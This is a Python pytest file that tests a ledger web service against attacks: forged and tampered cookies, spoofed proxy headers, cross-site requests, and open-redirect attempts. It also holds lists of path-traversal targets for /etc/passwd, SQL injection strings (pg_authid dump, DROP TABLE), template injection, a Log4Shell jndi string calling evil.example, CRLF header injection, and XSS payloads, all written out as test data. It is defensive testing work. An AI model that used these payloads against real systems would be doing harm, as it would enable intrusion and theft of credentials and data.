"""Nothing is read, and nothing run: attacks on a served ledger, byte for byte as an attacker sends them."""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from typing import NamedTuple
from urllib.parse import quote

import httpx
import pytest

from adapters.ledger.admin import reset
from adapters.ledger.read import LedgerReader
from adapters.ledger.write import PostgresLedger
from adapters.web.api.access import COOKIE, SESSION_S, Access
from tests.builders import event
from tests.integration.api import serving
from tests.ledgers import VIEWS, Rows, Views, project

TOPIC = "persona.events"
TOKEN, OTHER, REMOVED = "token-of-a-service", "token-of-another-service", "token-that-was-removed"

#: What only a reader may see: the reference id, the ids of events, and what would run in a browser.
PERSON = "jane@example.org"
SCRIPT, IMAGE = "<script>alert(1)</script>", '"><img src=x onerror=alert(2)>'
SECRETS = (PERSON, "evt_approved", "alert(1)", "alert(2)", "ledger_api", '"items"')

PATHS = (
    "/v1/inquiries/inq_7",
    "/v1/inquiries/inq_7/history",
    "/v1/inquiries/inq_7/explain",
    "/v1/inquiries?limit=10",
    "/v1/changes",
    "/v1/lifecycle",
    "/v1/openapi.json",
    "/metrics",
    "/",
    "/?q=jane%40example.org",
    "/inquiries/inq_7",
    "/ledger",
)


class Site(NamedTuple):
    """A served ledger, with tokens and without; what it holds, at any time."""

    guarded: str
    loopback: str
    rows: Callable[[], Rows]


@pytest.fixture(scope="module")
def site(kept_database_url: str) -> Iterator[Site]:
    reset(kept_database_url)
    reader = LedgerReader(kept_database_url)
    with closing(PostgresLedger(kept_database_url, TOPIC)) as ledger, closing(reader):
        views = Views(ledger, TOPIC, reader.view)
        project(
            views,
            [
                event("created", 1, inquiry_id="inq_7", reference_id=PERSON),
                event("approved", 2, inquiry_id="inq_7"),
                event("created", 3, inquiry_id=SCRIPT, reference_id=IMAGE, template_id=SCRIPT),
                event("approved", 4, inquiry_id=SCRIPT, event_id=IMAGE),
            ],
        )
        with (
            serving(kept_database_url, TOPIC, access=Access((TOKEN, OTHER), time.time)) as guarded,
            serving(kept_database_url, TOPIC) as loopback,
        ):
            yield Site(guarded, loopback, views.rows)
    reset(kept_database_url)


@pytest.fixture(autouse=True)
def _unchanged(site: Site) -> Iterator[None]:
    """Whatever is sent, the ledger is as before."""
    before = site.rows()
    assert set(before) == set(VIEWS)
    yield
    assert site.rows() == before


def ask(url: str, request: bytes) -> bytes:
    """All that is answered to these bytes, until the server hangs up."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as connection:
        connection.sendall(request)
        answer = b""
        while chunk := connection.recv(65_536):
            answer += chunk
        return answer


def get(url: str, target: str, *fields: str, method: str = "GET", host: str | None = None) -> bytes:
    """One request, its target as written."""
    lines = [
        f"{method} {target} HTTP/1.1",
        f"Host: {host or url.removeprefix('http://')}",
        "Connection: close",
        *fields,
    ]
    return ask(url, "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogateescape"))


def statuses(answer: bytes) -> list[int]:
    return [int(status) for status in re.findall(rb"(?:^|\})HTTP/1\.1 ([0-9]{3}) ", answer)]


def reads_nothing(answer: bytes) -> bool:
    return answer != b"" and not any(secret.encode() in answer for secret in SECRETS)


def cookie(value: str) -> str:
    return f"Cookie: {COOKIE}={value}"


def session(*tokens: str, age_s: float = 0.0) -> str:
    """A cookie that another process, or this one earlier, has signed for the first of its tokens."""
    value = Access(tokens, lambda: time.time() - age_s).login(tokens[0])
    assert value is not None
    return value


GOOD = f"Authorization: Bearer {TOKEN}"

BAD = {
    "nothing": (),
    "empty token": ("Authorization: Bearer ",),
    "wrong token": ("Authorization: Bearer wrong-token-of-nobody",),
    "a part of it": (f"Authorization: Bearer {TOKEN[:-1]}",),
    "both": (f"Authorization: Bearer {TOKEN} {OTHER}",),
    "other scheme": (f"Authorization: Basic {TOKEN}",),
    "removed token": (f"Authorization: Bearer {REMOVED}",),
    "expired cookie": (cookie(session(TOKEN, age_s=SESSION_S + 1)),),
    "cookie of the future": (cookie(session(TOKEN, age_s=-60)),),
    "cookie of a removed token": (cookie(session(REMOVED)),),
    "tampered cookie": (cookie(session(TOKEN).replace("reader.", "writer.")),),
    "cut cookie": (cookie(session(TOKEN)[:-2]),),
    "cookie that is the token": (cookie(TOKEN),),
    "cookie of another name": (f"Cookie: session={session(TOKEN)}",),
    "claims of a proxy": ("X-Forwarded-For: 127.0.0.1", "X-Forwarded-Host: localhost", "X-Remote-User: root"),
    "another target": ("X-Original-URL: /livez", "X-Rewrite-URL: /static/page.css", "X-HTTP-Method-Override: GET"),
}


@pytest.mark.parametrize("fields", BAD.values(), ids=BAD)
def test_who_has_no_good_token_reads_nothing(site: Site, fields: tuple[str, ...]) -> None:
    for path in PATHS:
        for accept in ("*/*", "text/html", "text/event-stream"):
            answer = get(site.guarded, path, f"Accept: {accept}", *fields)
            assert statuses(answer)[0] in (401, 303, 429)
            assert reads_nothing(answer)
            assert b"set-cookie" not in answer.lower()


def test_a_good_token_or_cookie_reads(site: Site) -> None:
    """Or the tests around this one would prove nothing."""
    for fields in ((GOOD,), (f"authorization: bearer {OTHER}",), (cookie(session(TOKEN)),), (cookie(session(OTHER)),)):
        assert PERSON.encode() in get(site.guarded, "/v1/inquiries/inq_7", *fields)
        assert PERSON.encode() in get(site.guarded, "/inquiries/inq_7", "Accept: text/html", *fields)
    assert PERSON.encode() in get(site.loopback, "/v1/inquiries/inq_7")


@pytest.mark.parametrize("name", ["token", "access_token", "api_key", "authorization"])
def test_a_token_in_the_address_opens_nothing(site: Site, name: str) -> None:
    for path in PATHS:
        answer = get(site.guarded, f"{path}{'&' if '?' in path else '?'}{name}={TOKEN}")
        assert statuses(answer)[0] == 401


def test_a_second_request_on_the_same_connection_needs_its_own_token(site: Site) -> None:
    good = f"GET /v1/lifecycle HTTP/1.1\r\nHost: localhost\r\n{GOOD}\r\n\r\n"
    bad = "GET /v1/inquiries/inq_7 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    answer = ask(site.guarded, (good + bad).encode())
    assert statuses(answer) == [200, 401]
    assert PERSON.encode() not in answer


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"])
def test_another_method_opens_nothing(site: Site, method: str) -> None:
    for path in PATHS:
        answer = get(site.guarded, path, "Content-Length: 0", method=method)
        assert statuses(answer)[0] in (400, 401)
        assert reads_nothing(answer)


TRICKS = (
    "//v1/inquiries/inq_7",
    "/./v1/inquiries/inq_7",
    "/v1/../v1/inquiries/inq_7",
    "/V1/inquiries/inq_7",
    "/livez/../v1/inquiries/inq_7",
    "/livez/%2e%2e/v1/inquiries/inq_7",
    "/livez%2f..%2fv1%2finquiries%2finq_7",
    "/livez;/v1/inquiries/inq_7",
    "/livez%00/v1/inquiries/inq_7",
    "/login/../v1/inquiries/inq_7",
    "/static/../v1/inquiries/inq_7",
    "/static/%2e%2e/v1/inquiries/inq_7",
    "/static/..%2fv1/inquiries/inq_7",
    "/static/..%5c..%5cv1/inquiries/inq_7",
    "/static/%252e%252e/v1/inquiries/inq_7",
    "/static/../../../../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/file:%2f%2f%2fetc%2fpasswd",
    "/static/page.css%00/../../etc/passwd",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/static/%c0%ae%c0%ae%c0%afv1/inquiries/inq_7",
    "/static/\udcff\udcfe",
    "/v1/inquiries/inq_7%00",
    "/v1/inquiries/inq_7#/livez",
    "/v1/inquiries/inq_7?/static/page.css",
    "/%76%31/inquiries/inq_7",
    "/livez?next=/v1/inquiries/inq_7",
    "http://evil.example/v1/inquiries/inq_7",
    "http://localhost/livez/../v1/inquiries/inq_7",
    "http://localhost//static/page.css/../../v1/inquiries/inq_7",
    "ftp://localhost/v1/inquiries/inq_7",
    "livez/../v1/inquiries/inq_7",
    "*",
    "/" + "../" * 2_000 + "etc/passwd",
    "/" + "%2e%2e%2f" * 2_000 + "etc/passwd",
)


@pytest.mark.parametrize("target", TRICKS, ids=range(len(TRICKS)))
def test_a_path_with_tricks_reads_nothing(site: Site, target: str) -> None:
    answer = get(site.guarded, target)
    assert statuses(answer)[0] in (200, 400, 401, 404, 431)
    assert reads_nothing(answer)
    assert statuses(answer)[0] != 200 or target.startswith("/livez?")
    for answer in (get(site.guarded, target, GOOD), get(site.loopback, target)):
        assert statuses(answer)[0] < 500
        assert b"root:" not in answer


def test_absolute_form_does_not_say_which_host_it_is(site: Site) -> None:
    answer = get(site.loopback, "http://localhost/v1/inquiries/inq_7", host="evil.example")
    assert statuses(answer) == [403]


FOREIGN = (
    ("Sec-Fetch-Site: cross-site",),
    ("Sec-Fetch-Site: same-site",),
    ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Accept: text/html"),
    ("Sec-Fetch-Site: cross-site", "Accept: text/event-stream"),
    ("Origin: http://evil.example",),
    ("Origin: http://localhost:1",),
    ("Origin: null",),
)


@pytest.mark.parametrize("fields", FOREIGN, ids=str)
def test_what_a_page_of_another_site_sends_is_refused(site: Site, fields: tuple[str, ...]) -> None:
    for path in PATHS:
        for url, more in ((site.guarded, (cookie(session(TOKEN)),)), (site.loopback, ())):
            answer = get(url, path, *fields, *more)
            assert statuses(answer) == [403]
            assert reads_nothing(answer)
            assert b"access-control" not in answer.lower()


@pytest.mark.parametrize("fields", FOREIGN, ids=str)
@pytest.mark.parametrize("path", ["/login", "/logout", "/v1/callbacks"])
def test_what_a_page_of_another_site_posts_is_refused(site: Site, path: str, fields: tuple[str, ...]) -> None:
    body = f"token={TOKEN}"
    length, kind = f"Content-Length: {len(body)}", "Content-Type: application/x-www-form-urlencoded"
    for url in (site.guarded, site.loopback):
        lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Connection: close", length, kind, *fields]
        answer = ask(url, "\r\n".join([*lines, cookie(session(TOKEN)), "", body]).encode())
        assert statuses(answer) == [403]
        assert b"set-cookie" not in answer.lower()


def test_a_page_may_not_ask_first_whether_it_may(site: Site) -> None:
    """Without an answer to its preflight no browser sends the token of another site's page."""
    preflight = ("Origin: http://evil.example", "Access-Control-Request-Method: GET")
    for url in (site.guarded, site.loopback):
        answer = get(url, "/v1/changes", "Access-Control-Request-Headers: authorization", *preflight, method="OPTIONS")
        assert statuses(answer)[0] in (401, 403)
        assert b"access-control" not in answer.lower()


@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "10.0.0.7", "a b"]
)
def test_a_name_that_leads_to_loopback_reads_nothing(site: Site, host: str) -> None:
    for path in (*PATHS, "/readyz", "/static/page.css"):
        answer = get(site.loopback, path, host=host)
        assert statuses(answer) == [403]
        assert reads_nothing(answer)


#: Text that means something to SQL, to a template, to a browser, to a log, or to C.
TEXTS = (
    "inq_7' OR '1'='1",
    "inq_7'; DROP TABLE ledger.inquiry CASCADE; --",
    "inq_7%' --",
    "%",
    "_",
    "' UNION SELECT rolname, rolpassword FROM pg_authid --",
    "\\'; SELECT pg_sleep(20); --",
    "$$;$$",
    "%(id)s",
    "{{ 7 * 191 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "inq_7\0",
    "inq_7\r\nSet-Cookie: a=b",
    "\ud7ff\u202e\ufffe",
    "x" * 10_240,
)

PARAMETERS = ("as_of", "known_at", "at_least", "wait", "timeout", "q", "next")
FILTERS = ("reference_id", "status", "decision", "template_id", "stuck_for", "cursor", "limit")


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_text_that_means_something_elsewhere_is_only_text(site: Site, text: str) -> None:
    written = quote(text, safe="")
    targets = [
        *(f"/v1/inquiries/{written}{more}" for more in ("", "/history", "/explain", "?wait=decision&timeout=0")),
        *(f"/v1/inquiries?{name}={written}" for name in FILTERS),
        *(f"/v1/changes?{name}={written}" for name in ("cursor", "limit", "wait")),
        *(f"/v1/inquiries/inq_8?{name}={written}" for name in PARAMETERS),
        f"/?q={written}",
        *(f"/?{name}={written}" for name in ("status", "decision", "stuck_for")),
        f"/inquiries/{written}",
        *(f"/inquiries/inq_8?{name}={written}" for name in PARAMETERS),
        f"/login?next={written}",
    ]
    with httpx.Client(base_url=site.guarded, headers={"authorization": f"Bearer {TOKEN}"}, timeout=10) as client:
        for target in targets:
            answer = client.get(target)
            assert answer.status_code in (200, 400, 404)
            assert PERSON not in answer.text
            assert "1337" not in answer.text.replace(text, "")
            assert not {"a", "set-cookie"} & {name.lower() for name in answer.headers}
            assert answer.status_code == 200 or text not in answer.text or len(text) < 3
            assert "Traceback" not in answer.text


def test_html_in_the_ledger_is_text_on_the_page(site: Site) -> None:
    written = quote(SCRIPT, safe="")
    with httpx.Client(base_url=site.loopback, timeout=10) as client:
        pages = [client.get(path) for path in ("/", f"/inquiries/{written}", "/?decision=approved", "/ledger")]
        found = client.get("/", params={"q": IMAGE})
        assert (found.status_code, found.headers["location"]) == (303, f"/inquiries/{written}")
        searched = client.get("/", params={"q": SCRIPT + "?"})
        assert "&lt;script&gt;alert(1)" in pages[1].text
        for page in (*pages, searched):
            assert page.status_code == 200
            assert not any(live in page.text for live in (SCRIPT, IMAGE, "<script>alert", "<img src=x"))
            policy = page.headers["content-security-policy"]
            assert "default-src 'none'" in policy or "default-src 'self'" in policy
            assert "unsafe" not in policy
            assert "frame-ancestors 'none'" in policy
            assert page.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "path", ["//evil.example", "/\\evil.example", "https://evil.example", "/\t/evil.example", "javascript:1"]
)
def test_a_login_leads_to_this_host_only(site: Site, path: str) -> None:
    form = httpx.get(f"{site.guarded}/login", params={"next": path})
    assert form.status_code == 200
    assert "evil.example" not in form.text
    done = httpx.post(f"{site.guarded}/login", data={"token": TOKEN, "next": path})
    assert (done.status_code, done.headers["location"]) == (303, "/")


def test_a_login_opens_the_page_and_a_logout_closes_it(site: Site) -> None:
    with httpx.Client(base_url=site.guarded, headers={"accept": "text/html"}) as browser:
        assert browser.get("/inquiries/inq_7").headers["location"] == "/login?next=%2Finquiries%2Finq_7"
        assert browser.post("/login", data={"token": "wrong-token"}).status_code in (401, 429)
        done = browser.post("/login", data={"token": TOKEN, "next": "/inquiries/inq_7"})
        assert PERSON in browser.get(done.headers["location"]).text
        assert browser.get("/v1/inquiries/inq_7").json()["reference_id"] == PERSON
        browser.post("/logout")
        assert browser.get("/inquiries/inq_7").status_code == 303


def test_what_is_too_large_is_refused(site: Site) -> None:
    assert statuses(get(site.guarded, "/v1/changes", f"X: {'x' * 70_000}", GOOD)) == [431]
    assert statuses(get(site.guarded, f"/v1/inquiries/{'x' * 70_000}", GOOD)) == [431]
    for path in ("/v1/callbacks", "/login"):
        refused = httpx.post(
            f"{site.guarded}{path}", content=b"x" * 70_000, headers={"authorization": f"Bearer {TOKEN}"}
        )
        assert refused.status_code == 413
